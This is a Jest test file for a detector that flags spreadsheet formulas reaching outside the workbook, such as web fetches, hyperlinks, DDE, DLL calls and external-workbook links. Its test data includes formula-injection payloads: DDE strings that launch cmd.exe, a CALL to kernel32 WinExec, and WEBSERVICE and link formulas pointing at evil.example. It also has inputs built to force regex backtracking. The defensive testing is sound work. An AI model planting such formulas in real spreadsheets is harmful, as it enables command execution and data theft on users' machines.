/**
 * formulaRisk: which formulas reach outside the workbook (issue 16, item 1). Spot's staff open
 * the workbook in Excel; a formula that fetches, links, runs DDE or reads other files is an
 * error in a contract cell.
 */
import { formulaRisk } from '../../src/core/formulas';

describe('formulaRisk', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/x","Click")', 'hyperlink', 'HYPERLINK'],
    ['=hyperlink("http://x")', 'hyperlink', 'hyperlink'],
    ['=IF(WEBSERVICE("https://x.example/?q="&A1)="","a","b")', 'web', 'WEBSERVICE'],
    ['=_xlfn.WEBSERVICE("https://x")', 'web', 'WEBSERVICE'],
    ['=FILTERXML(B1,"//a")', 'web', 'FILTERXML'],
    ['=_xlfn.IMAGE("https://x/a.png")', 'web', 'IMAGE'],
    ["=cmd|' /C calc'!A0", 'dde', '|'],
    ["=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''", 'dde', '|'],
    ['=DDE("cmd","/c calc","x")', 'dde', 'DDE'],
    ['=RTD("my.server",,"topic")', 'code', 'RTD'],
    ['=CALL("kernel32","WinExec","JCJ","calc",0)', 'code', 'CALL'],
    ['=REGISTER.ID("user32","MessageBoxA")', 'code', 'REGISTER.ID'],
    ['=[1]Sheet1!A1', 'external-workbook', '[1]'],
    ['=SUM([Budget.xlsx]Sheet1!A1:A3)', 'external-workbook', '[Budget.xlsx]'],
    ["='C:\\Users\\me\\[Secrets.xlsx]Keys'!A1", 'external-workbook', "'C:\\Users\\me\\[Secrets.xlsx]Keys'"],
    ["='https://evil.example/[x.xlsx]S'!A1", 'external-workbook', "'https://evil.example/[x.xlsx]S'"],
  ])('%s reaches out (%s, via %s)', (formula, reach, via) => {
    expect(formulaRisk(formula)).toEqual({ reach, via });
  });

  it.each([
    '=A1',
    '=TEXT(12345678901,"000000000000")',
    '="HYPERLINK(" & "x"', // the name inside a string literal is text, not a call
    '="cmd|calc"', // a | inside a string literal
    "='Subset ''Workflows'''!A1", // a quoted sheet name with quotes
    '=Table1[[#This Row],[Subset Name]]', // structured references are inside the workbook
    '=MYHYPERLINK(A1)', // a name that merely ends in HYPERLINK
    '=SUM(Accounts!C2:C9)',
    '=IF(A1="[1]","x","y")',
  ])('%s stays inside the workbook', (formula) => {
    expect(formulaRisk(formula)).toBeNull();
  });

  it('an unterminated literal does not hide a call after it, nor make one up', () => {
    expect(formulaRisk('=A1&"HYPERLINK(')).toBeNull();
    expect(formulaRisk('=WEBSERVICE(A1)&"')).toEqual({ reach: 'web', via: 'WEBSERVICE' });
  });

  it('is linear: formulas of 8,192 characters (Excel’s limit) built to make patterns backtrack', () => {
    // Each would take seconds with a backtracking scan; together they are a few milliseconds.
    const shapes = [
      '='.concat('['.repeat(8191)),
      '='.concat('a'.repeat(8190), '.'),
      '='.concat('[a'.repeat(4095), '.'),
      "='".concat("''".repeat(4095)),
      '='.concat('A('.repeat(4095)),
    ];
    for (const f of shapes) expect(() => formulaRisk(f)).not.toThrow();
    expect(formulaRisk('='.concat('A('.repeat(4095)))).toBeNull();
  });
});
